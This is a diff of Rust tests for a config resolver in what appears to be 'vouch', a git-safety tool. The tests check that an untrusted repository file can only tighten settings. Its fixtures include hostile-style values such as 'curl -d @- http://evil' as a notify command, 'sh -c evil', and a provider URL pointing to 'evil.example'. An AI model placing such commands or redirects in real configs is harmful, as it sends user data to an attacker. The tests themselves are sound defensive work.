+    fn resolve(inputs: &ConfigInputs) -> Config {
         Config::resolve(inputs, &MapEnv::default())
-            .unwrap_err()
-            .to_string()
     }
 
     #[test]
@@ -1385,26 +1718,48 @@ mod tests {
     }
 
     #[test]
-    fn repo_overrides_user_policy() {
+    fn trusted_repo_overrides_user_policy_untrusted_only_adds() {
         let mut inputs =
             user("[tiers]\nforce_push = \"critical\"\n[protected]\nbranches = [\"main\"]\n");
-        inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", false).repo;
-        let c = Config::resolve(&inputs, &MapEnv::default()).unwrap();
+        inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", true).repo;
+        let c = resolve(&inputs);
         assert_eq!(c.policy.tiers.force_push, Tier::Critical);
         assert!(c.policy.protected.is_match("prod"));
         assert!(!c.policy.protected.is_match("main"));
+        assert!(c.warnings.is_empty(), "{:?}", c.warnings);
+        inputs.repo = repo("[protected]\nbranches = [\"prod\"]\n", false).repo;
+        let c = resolve(&inputs);
+        assert!(c.policy.protected.is_match("prod"), "added");
+        assert!(c.policy.protected.is_match("main"), "never removed");
+        assert_eq!(c.policy.protected_patterns, ["main", "prod"]);
+        assert_eq!(c.warnings.len(), 1, "{:?}", c.warnings);
+        assert!(
+            c.warnings[0].contains("protected.branches"),
+            "{:?}",
+            c.warnings
+        );
     }
 
     #[test]
     fn untrusted_repo_file_cannot_set_programs_or_paths() {
         let text = "notify_command = \"curl evil\"\n[verifiers.x]\ncommand = \"sh -c evil\"\n[log]\npath = \"/tmp/x\"\n";
-        let c = Config::resolve(&repo(text, false), &MapEnv::default()).unwrap();
+        let c = resolve(&repo(text, false));
         assert!(c.verifiers.is_empty());
         assert!(c.notify_command.is_none());
         assert!(c.log_path.is_none());
-        assert_eq!(c.warnings.len(), 3);
-        assert!(c.warnings[0].contains("vouch trust"));
-        let c = Config::resolve(&repo(text, true), &MapEnv::default()).unwrap();
+        assert_eq!(c.warnings.len(), 1, "one line for the whole file");
+        let line = &c.warnings[0];
+        for what in [
+            "`notify_command`",
+            "`[verifiers]`",
+            "`log.path`",
+            "vouch trust",
+            "at a terminal",
+            "/r/.vouch.toml",
+        ] {
+            assert!(line.contains(what), "{what}: {line}");
+        }
+        let c = resolve(&repo(text, true));
         assert_eq!(
             c.verifiers["x"].command.as_deref().unwrap(),
             ["sh", "-c", "evil"]
@@ -1418,8 +1773,7 @@ mod tests {
         let c = Config::resolve(
             &user("verify_standard = false\n[log]\npath = \"/y\"\n"),
             &env,
-        )
-        .unwrap();
+        );
         assert!(c.verify_standard);
         assert_eq!(c.log_path.unwrap(), PathBuf::from("/x/log.jsonl"));
     }
@@ -1427,12 +1781,12 @@ mod tests {
     #[test]
     fn providers_and_keys_follow_the_trust_rule() {
         let text = "[providers.anthropic]\nbase_url = \"http://evil\"\n";
-        let c = Config::resolve(&repo(text, false), &MapEnv::default()).unwrap();
+        let c = resolve(&repo(text, false));
         assert!(
             c.providers.is_empty(),
             "an untrusted repository cannot point vouch elsewhere"
         );
-        let c = Config::resolve(&repo(text, true), &MapEnv::default()).unwrap();
+        let c = resolve(&repo(text, true));
         assert_eq!(
             c.providers["anthropic"].base_url.as_deref(),
             Some("http://evil")
@@ -1440,7 +1794,7 @@ mod tests {
         let with_key = "[providers.openai]\napi_key = \"sk-123\"\n";
         let e = err(&repo(with_key, true));
         assert!(e.contains("never from a repository file"), "{e}");
-        let c = Config::resolve(&user(with_key), &MapEnv::default()).unwrap();
+        let c = resolve(&user(with_key));
         assert!(c.providers["openai"].api_key.is_some());
         let e = err(&user("[ai]\ntimeout_secs = 0\n"));
         assert!(e.contains("ai.timeout_secs"), "{e}");
@@ -1452,9 +1806,610 @@ mod tests {
     fn verifier_entries_layer_by_name() {
         let mut inputs = user("[verifiers.tests]\ncommand = \"make test\"\ntimeout_secs = 5\n");
         inputs.repo = repo("[verifiers.tests]\nblocking = false\n", true).repo;
-        let c = Config::resolve(&inputs, &MapEnv::default()).unwrap();
+        let c = resolve(&inputs);
         let v = &c.verifiers["tests"];
         assert_eq!(v.command.as_deref().unwrap(), ["make", "test"]);
         assert!(!v.blocking);
+    }
+
+    fn both(user_text: &str, repo_text: &str, trusted: bool) -> ConfigInputs {
+        ConfigInputs {
+            user: (!user_text.is_empty())
+                .then(|| user(user_text).user)
+                .flatten(),
+            repo: repo(repo_text, trusted).repo,
+        }
+    }
+
+    /// One setting's row of the trust table (module doc).
+    struct Row {
+        /// The key as written in a file, dotted.
+        key: String,
+        /// A user config in force below the repository file ("" for none).
+        base: String,
+        /// A file that lowers the setting below `base` (or sets what an
+        /// untrusted file may not set at all); `None` when nothing lowers it.
+        lower: Option<String>,
+        /// A file that makes it stricter than `base`; `None` when no value is
+        /// stricter or an untrusted file may not set it at all.
+        raise: Option<String>,
+        /// The setting in force, for comparing.
+        get: fn(&Config) -> String,
+    }
+
+    fn row(
+        key: &str,
+        base: &str,
+        lower: Option<&str>,
+        raise: Option<&str>,
+        get: fn(&Config) -> String,
+    ) -> Row {
+        Row {
+            key: key.to_owned(),
+            base: base.to_owned(),
+            lower: lower.map(str::to_owned),
+            raise: raise.map(str::to_owned),
+            get,
+        }
+    }
+
+    fn toml_list(patterns: &[String]) -> String {
+        let quoted: Vec<String> = patterns.iter().map(|p| format!("\"{p}\"")).collect();
+        format!("[{}]", quoted.join(", "))
+    }
+
+    fn default_list(name: &str) -> Vec<String> {
+        COMMIT_GLOBS
+            .iter()
+            .find(|(n, _)| *n == name)
+            .map(|(_, p)| strings(p))
+            .unwrap()
+    }
+
+    fn verifiers(c: &Config) -> String {
+        let shown: Vec<_> = c
+            .verifiers
+            .iter()
+            .map(|(n, v)| (n, &v.command, v.enabled, v.blocking))
+            .collect();
+        format!("{shown:?}")
+    }
+
+    /// Every setting of the file format, with what lowers and raises it.
+    fn rows() -> Vec<Row> {
+        let mut rows = vec![
+            row("mode", "", Some("mode = \"observe\""), None, |c| {
+                format!("{:?}", c.mode)
+            }),
+            row(
+                "strict",
+                "strict = true",
+                Some("strict = false"),
+                None,
+                |c| c.strict.to_string(),
+            ),
+            row("strict", "", None, Some("strict = true"), |c| {
+                c.strict.to_string()
+            }),
+            row(
+                "verify_standard",
+                "verify_standard = true",
+                Some("verify_standard = false"),
+                None,
+                |c| c.verify_standard.to_string(),
+            ),
+            row(
+                "verify_standard",
+                "",
+                None,
+                Some("verify_standard = true"),
+                |c| c.verify_standard.to_string(),
+            ),
+            row(
+                "log_all",
+                "log_all = true",
+                Some("log_all = false"),
+                None,
+                |c| c.log_all.to_string(),
+            ),
+            row("log_all", "", None, Some("log_all = true"), |c| {
+                c.log_all.to_string()
+            }),
+            row(
+                "notify_command",
+                "",
+                Some("notify_command = \"curl -d @- http://evil\""),
+                None,
+                |c| format!("{:?}", c.notify_command),
+            ),
+            row(
+                "protected.remote_head",
+                "",
+                Some("[protected]\nremote_head = false"),
+                None,
+                |c| c.policy.remote_head.to_string(),
+            ),
+            row(
+                "thresholds.mass_ref_changes",
+                "",
+                Some("[thresholds]\nmass_ref_changes = 1000"),
+                Some("[thresholds]\nmass_ref_changes = 1"),
+                |c| c.policy.mass_ref_changes.to_string(),
+            ),
+            row(
+                "verifiers",
+                "",
+                Some("[verifiers.always]\ncommand = \"true\""),
+                None,
+                verifiers,
+            ),
+            row(
+                "verifiers",
+                "[verifiers.tests]\ncommand = \"make test\"",
+                Some("[verifiers.tests]\nenabled = false"),
+                None,
+                verifiers,
+            ),
+            row(
+                "log.path",
+                "",
+                Some("[log]\npath = \"/dev/null\""),
+                None,
+                |c| format!("{:?}", c.log_path),
+            ),
+            row(
+                "log.max_bytes",
+                "",
+                Some("[log]\nmax_bytes = 4096"),
+                Some("[log]\nmax_bytes = 1000000000"),
+                |c| c.log_max_bytes.to_string(),
+            ),
+            row("ai.enabled", "", Some("[ai]\nenabled = false"), None, |c| {
+                c.ai.enabled.to_string()
+            }),
+            row(
+                "ai.order",
+                "",
+                Some("[ai]\norder = [\"openai\"]"),
+                None,
+                |c| format!("{:?}", c.ai.order),
+            ),
+            row(
+                "ai.timeout_secs",
+                "",
+                Some("[ai]\ntimeout_secs = 1"),
+                None,
+                |c| c.ai.timeout_secs.to_string(),
+            ),
+            row(
+                "ai.timeout_secs",
+                "",
+                Some("[ai]\ntimeout_secs = 3600"),
+                None,
+                |c| c.ai.timeout_secs.to_string(),
+            ),
+            row(
+                "ai.connect_timeout_secs",
+                "",
+                Some("[ai]\nconnect_timeout_secs = 1"),
+                None,
+                |c| c.ai.connect_timeout_secs.to_string(),
+            ),
+            row(
+                "ai.cache_secs",
+                "",
+                Some("[ai]\ncache_secs = 999999"),
+                Some("[ai]\ncache_secs = 0"),
+                |c| c.ai.cache_secs.to_string(),
+            ),
+            row(
+                "ai.max_output_tokens",
+                "",
+                Some("[ai]\nmax_output_tokens = 64"),
+                None,
+                |c| c.ai.max_output_tokens.to_string(),
+            ),
+            row(
+                "ai.temperature",
+                "",
+                Some("[ai]\ntemperature = 2.0"),
+                None,
+                |c| format!("{:?}", c.ai.temperature),
+            ),
+            row(
+                "providers",
+                "",
+                Some("[providers.anthropic]\nbase_url = \"http://evil.example\""),
+                None,
+                |c| format!("{:?}", c.providers),
+            ),
+            row(
+                "prices",
+                "",
+                Some("[prices.gpt-5]\ninput_per_mtok = 0.0\noutput_per_mtok = 0.0"),
+                None,
+                |c| format!("{:?}", c.prices),
+            ),
+            row(
+                "rules",
+                "",
+                None,
+                Some(
+                    "[[rules]]\npattern = \"make deploy\"\ntier = \"critical\"\nreason = \"deploys\"",
+                ),
+                |c| format!("{:?}", c.rules),
+            ),
+            row(
+                "agent.budget_secs",
+                "",
+                Some("[agent]\nbudget_secs = 3600"),
+                None,
+                |c| c.agent_budget_secs.to_string(),
+            ),
+            row(
+                "agent.budget_secs",
+                "",
+                Some("[agent]\nbudget_secs = 1"),
+                None,
+                |c| c.agent_budget_secs.to_string(),
+            ),
+        ];
+        for (key, list) in [
+            ("branches", DEFAULT_PROTECTED),
+            ("release_tags", DEFAULT_RELEASE_TAGS),
+        ] {
+            let mut more = strings(list);
+            more.push("hotfix/*".into());
+            rows.push(row(
+                &format!("protected.{key}"),
+                "",
+                Some(&format!("[protected]\n{key} = []")),
+                Some(&format!("[protected]\n{key} = {}", toml_list(&more))),
+                |c| {
+                    format!(
+                        "{:?} {:?} {}",
+                        c.policy.protected_patterns,
+                        c.policy.release_tag_patterns,
+                        c.policy.protected.is_match("main")
+                    )
+                },
+            ));
+        }
+        for level in ["critical", "high", "standard"] {
+            rows.push(row(
+                &format!("on_unavailable.{level}"),
+                &format!("[on_unavailable]\n{level} = \"ask\""),
+                Some(&format!("[on_unavailable]\n{level} = \"allow\"")),
+                Some(&format!("[on_unavailable]\n{level} = \"block\"")),
+                |c| format!("{:?}", c.on_unavailable),
+            ));
+        }
+        for key in [
+            "force_push_protected",
+            "force_push_unseen",
+            "force_push",
+            "delete_protected",
+            "delete_branch",
+            "tag_move",
+            "release_tag_move",
+            "mass_ref_changes",
+            "push_protected",
+            "local_rewind",
+            "local_rewind_reachable",
+            "local_rewrite",
+            "local_delete",
+            "local_tag",
+            "stash_drop",
+        ] {
+            rows.push(row(
+                &format!("tiers.{key}"),
+                &format!("[tiers]\n{key} = \"standard\""),
+                Some(&format!("[tiers]\n{key} = \"none\"")),
+                Some(&format!("[tiers]\n{key} = \"critical\"")),
+                |c| format!("{:?}", c.policy.tiers),
+            ));
+        }
+        for (key, _) in COMMIT_TIERS {
+            rows.push(row(
+                &format!("commit.tiers.{key}"),
+                &format!("[commit.tiers]\n{key} = \"standard\""),
+                Some(&format!("[commit.tiers]\n{key} = \"none\"")),
+                Some(&format!("[commit.tiers]\n{key} = \"critical\"")),
+                |c| format!("{:?}", c.commit.tiers),
+            ));
+        }
+        for key in [
+            "bulk_deleted_files",
+            "bulk_deleted_lines",
+            "large_files",
+            "large_lines",
+        ] {
+            rows.push(row(
+                &format!("commit.{key}"),
+                "",
+                Some(&format!("[commit]\n{key} = 100000")),
+                Some(&format!("[commit]\n{key} = 1")),
+                |c| {
+                    let r = &c.commit;
+                    format!(
+                        "{} {} {} {}",
+                        r.bulk_deleted_files, r.bulk_deleted_lines, r.large_files, r.large_lines
+                    )
+                },
+            ));
+        }
+        let commit_globs = |c: &Config| {
+            let r = &c.commit;
+            format!(
+                "{:?}",
+                [
+                    &r.migrations,
+                    &r.migration_exceptions,
+                    &r.generated,
+                    &r.credentials,
+                    &r.credential_exceptions,
+                    &r.ci,
+                    &r.infrastructure,
+                    &r.manifests,
+                ]
+                .map(Globs::patterns)
+            )
+        };
+        for key in [
+            "migrations",
+            "credentials",
+            "ci",
+            "infrastructure",
+            "manifests",
+        ] {
+            let mut more = default_list(key);
+            more.push("**/extra/**".into());
+            rows.push(row(
+                &format!("commit.{key}"),
+                "",
+                Some(&format!("[commit]\n{key} = []")),
+                Some(&format!("[commit]\n{key} = {}", toml_list(&more))),
+                commit_globs,
+            ));
+        }
+        for key in ["migration_exceptions", "generated", "credential_exceptions"] {
+            let fewer = default_list(key)[..1].to_vec();
+            let mut more = default_list(key);
+            more.push("**/*".into());
+            rows.push(row(
+                &format!("commit.{key}"),
+                "",
+                Some(&format!("[commit]\n{key} = {}", toml_list(&more))),
+                Some(&format!("[commit]\n{key} = {}", toml_list(&fewer))),
+                commit_globs,
+            ));
+        }
+        rows
+    }
+
+    /// Who may set each setting, and in which direction: the user config
+    /// and a trusted repository file may lower it; an untrusted repository
+    /// file may only raise it, and what it cannot set is named in one line.
+    #[test]
+    fn who_may_set_what() {
+        for r in rows() {
+            let key = &r.key;
+            let base = resolve(&both(&r.base, "", false));
+            assert!(base.broken.is_empty(), "{key}: {:?}", base.warnings);
+            let in_force = (r.get)(&base);
+            if let Some(lower) = &r.lower {
+                let by_user = resolve(&user(lower));
+                assert!(by_user.broken.is_empty(), "{key}: {:?}", by_user.warnings);
+                let trusted = resolve(&both(&r.base, lower, true));
+                assert!(trusted.warnings.is_empty(), "{key}: {:?}", trusted.warnings);
+                assert_ne!(
+                    (r.get)(&trusted),
+                    in_force,
+                    "{key}: a trusted file may lower it"
+                );
+                if r.base.is_empty() {
+                    assert_eq!(
+                        (r.get)(&trusted),
+                        (r.get)(&by_user),
+                        "{key}: a trusted file sets what the user config sets"
+                    );
+                }
+                let untrusted = resolve(&both(&r.base, lower, false));
+                assert_eq!(
+                    (r.get)(&untrusted),
+                    in_force,
+                    "{key}: an untrusted file cannot lower it ({lower})"
+                );
+                assert_eq!(
+                    untrusted.warnings.len(),
+                    1,
+                    "{key}: {:?}",
+                    untrusted.warnings
+                );
+                let line = &untrusted.warnings[0];
+                let named = key.split('.').next_back().unwrap();
+                assert!(line.contains(named), "{key}: {line}");
+                assert!(
+                    line.contains("vouch trust") && line.contains("at a terminal"),
+                    "{line}"
+                );
+                assert!(untrusted.broken.is_empty());
+            }
+            if let Some(raise) = &r.raise {
+                for trusted in [false, true] {
+                    let c = resolve(&both(&r.base, raise, trusted));
+                    assert!(c.warnings.is_empty(), "{key}: {:?}", c.warnings);
+                    assert_ne!(
+                        (r.get)(&c),
+                        in_force,
+                        "{key}: any file may raise it ({raise})"
+                    );
+                }
+            }
+            // Restating the value in force is no lowering: no line (programs
+            // and providers are tables, always named).
+            let tables = ["verifiers", "providers"];
+            for same in r
+                .lower
+                .iter()
+                .chain(&r.raise)
+                .filter(|_| !tables.contains(&key.as_str()))
+            {
+                let mut inputs = user(same);
+                inputs.repo = repo(same, false).repo;
+                let c = resolve(&inputs);
+                assert!(c.warnings.is_empty(), "{key} restated: {:?}", c.warnings);
+            }
+        }
+    }
+
+    /// The accepted keys of one table, read from the error an unknown key draws.
+    fn accepted_keys(table: &str) -> Vec<String> {
+        let text = if table.is_empty() {
+            "zzz_unknown = 1\n".to_owned()
+        } else {
+            format!("[{table}]\nzzz_unknown = 1\n")
+        };
+        let e = err(&user(&text));
+        let list = e
+            .split_once("accepted")
+            .expect("an unknown-key error lists the keys")
+            .1;
+        list.split('`')
+            .skip(1)
+            .step_by(2)
+            .map(|k| {
+                if table.is_empty() {
+                    k.to_owned()
+                } else {
+                    format!("{table}.{k}")
+                }
+            })
+            .collect()
+    }
+
+    #[test]
+    fn every_setting_has_a_decision() {
+        let keys: Vec<String> = rows().into_iter().map(|r| r.key).collect();
+        let mut seen = 0;
+        for table in [
+            "",
+            "protected",
+            "thresholds",
+            "tiers",
+            "on_unavailable",
+            "log",
+            "ai",
+            "commit",
+            "commit.tiers",
+            "agent",
+        ] {
+            for key in accepted_keys(table) {
+                seen += 1;
+                // A table is decided by its keys' rows; `verifiers.NAME`,
+                // `providers.NAME`, `prices.NAME` and `[[rules]]` as a whole.
+                let decided = keys
+                    .iter()
+                    .any(|k| *k == key || k.starts_with(&format!("{key}.")));
+                assert!(
+                    decided,
+                    "no trust decision for `{key}`: add a row and a line to the module doc"
+                );
+            }
+        }
+        assert!(seen > 60, "{seen} keys read");
+    }
+
+    #[test]
+    fn environment_only_raises_except_what_stands_in_for_the_user() {
+        let file = user("verify_standard = true\nstrict = true\n");
+        let off = MapEnv::from_pairs(&[("VOUCH_VERIFY", "0"), ("VOUCH_STRICT", "false")]);
+        let c = Config::resolve(&file, &off);
+        assert!(c.verify_standard && c.strict, "`0` leaves the files' value");
+        let on = MapEnv::from_pairs(&[("VOUCH_VERIFY", "1"), ("VOUCH_STRICT", "1")]);
+        let c = Config::resolve(&repo("verify_standard = false\n", true), &on);
+        assert!(c.verify_standard && c.strict, "above every file");
+        // `VOUCH_LOG` stands in for the user and wins over every file.
+        let log = MapEnv::from_pairs(&[("VOUCH_LOG", "/x/log.jsonl")]);
+        let c = Config::resolve(&repo("[log]\npath = \"/r/log\"\n", true), &log);
+        assert_eq!(c.log_path.unwrap(), PathBuf::from("/x/log.jsonl"));
+    }
+
+    #[test]
+    fn an_untrusted_file_lowering_many_settings_draws_one_line() {
+        let text = "mode = \"observe\"\n[tiers]\nforce_push_protected = \"none\"\nlocal_delete = \"none\"\n[protected]\nbranches = []\n[on_unavailable]\ncritical = \"allow\"\n";
+        let c = resolve(&repo(text, false));
+        assert_eq!(c.mode, Mode::Enforce);
+        assert_eq!(c.policy.tiers.force_push_protected, Tier::Critical);
+        assert_eq!(c.policy.tiers.local_delete, Tier::Critical);
+        assert!(c.policy.protected.is_match("main"));
+        assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask);
+        assert_eq!(c.warnings.len(), 1, "{:?}", c.warnings);
+        let line = &c.warnings[0];
+        for what in [
+            "`mode = \"observe\"`",
+            "`tiers.force_push_protected = \"none\"`",
+            "`tiers.local_delete = \"none\"`",
+            "`protected.branches`",
+            "`on_unavailable.critical = \"allow\"`",
+        ] {
+            assert!(line.contains(what), "{what}: {line}");
+        }
+        assert!(!line.contains('\n'));
+    }
+
+    #[test]
+    fn a_broken_file_is_left_out_whole_with_its_error_and_line() {
+        // A broken repository file: the user's config stays in force.
+        let mut inputs = user("[on_unavailable]\ncritical = \"block\"\n");
+        inputs.repo = repo("mode = \"observe\"\n[tiers]\nforce_push = 3\n", true).repo;
+        let c = resolve(&inputs);
+        assert_eq!(c.on_unavailable.critical, OnUnavailable::Block);
+        assert_eq!(c.mode, Mode::Enforce, "nothing of a broken file applies");
+        assert_eq!(c.broken.len(), 1);
+        assert_eq!(c.warnings.len(), 1);
+        let line = &c.warnings[0];
+        assert!(
+            line.contains("/r/.vouch.toml") && line.contains("line 3"),
+            "{line}"
+        );
+        assert!(
+            line.contains("judged by the user config and the defaults"),
+            "{line}"
+        );
+        assert!(!line.contains("no-verify"), "{line}");
+        // A value that parses but is invalid leaves the whole file out too.
+        inputs.repo = repo("mode = \"observe\"\n[ai]\ntimeout_secs = 0\n", true).repo;
+        let c = resolve(&inputs);
+        assert_eq!(c.mode, Mode::Enforce);
+        assert!(
+            c.warnings[0].contains("ai.timeout_secs"),
+            "{:?}",
+            c.warnings
+        );
+        // A broken user config: the defaults, and a valid repository file
+        // under the same trust rule.
+        let mut inputs = user("[on_unavailable]\ncritical = \"block\"\nstrict = maybe\n");
+        inputs.repo = repo(
+            "[tiers]\nforce_push = \"critical\"\nlocal_delete = \"none\"\n",
+            false,
+        )
+        .repo;
+        let c = resolve(&inputs);
+        assert_eq!(c.on_unavailable.critical, OnUnavailable::Ask, "defaults");
+        assert_eq!(
+            c.policy.tiers.force_push,
+            Tier::Critical,
+            "the repository raises"
+        );
+        assert_eq!(
+            c.policy.tiers.local_delete,
+            Tier::Critical,
+            "but cannot lower"
+        );
+        assert_eq!(c.broken.len(), 1);
+        assert_eq!(c.warnings.len(), 2, "{:?}", c.warnings);
+        assert!(c.warnings[0].contains("config.toml") && c.warnings[0].contains("line 3"));
+        assert!(c.warnings[0].contains("built-in defaults until it is fixed"));
     }
 }
